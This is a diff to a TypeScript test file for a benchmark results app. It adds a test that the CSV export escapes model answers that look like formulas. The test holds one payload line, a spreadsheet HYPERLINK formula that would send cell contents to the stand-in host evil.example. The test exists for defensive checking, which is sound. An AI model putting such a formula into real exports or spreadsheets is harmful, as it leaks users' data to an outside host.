@@ -30,6 +30,7 @@ const routes = {
   rows: () => import("@/app/api/benchmarks/runs/[id]/results/route"),
   detail: () => import("@/app/api/benchmarks/results/[id]/route"),
   compare: () => import("@/app/api/benchmarks/compare/route"),
+  exportRun: () => import("@/app/api/benchmarks/runs/[id]/export/route"),
 };
 
 async function researcherSession(email: string): Promise<string> {
@@ -184,5 +185,22 @@ describe("comparing two runs", () => {
     expect(mixed.status).toBe(400);
     expect(mixed.body.error.message).toMatch(/same subset/);
     expect((await compare(a.id, a.id)).status).toBe(400);
+  });
+});
+
+describe("the CSV export", () => {
+  it("shows a model's answer that looks like a formula as text, so a spreadsheet never runs it", async () => {
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Image A")';
+    const rigged = await importRun("TEST_SP_OD", "rigged", () => true);
+    // The answer block of every output of this run is the formula.
+    await database.prisma.evaluationResult.updateMany({ where: { runId: rigged.id }, data: { output: output(formula) } });
+    const response = await callRoute(await routes.exportRun(), "GET", `/api/benchmarks/runs/${rigged.id}/export?format=csv`, { sessionToken: session, params: { id: rigged.id } });
+    expect(response.status).toBe(200);
+    const lines = (await response.text()).trim().split("\r\n");
+    expect(lines).toHaveLength(3);
+    for (const line of lines.slice(1)) {
+      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Image A"")"`);
+      expect(line.split(",").some((cell) => cell.startsWith("="))).toBe(false);
+    }
   });
 });
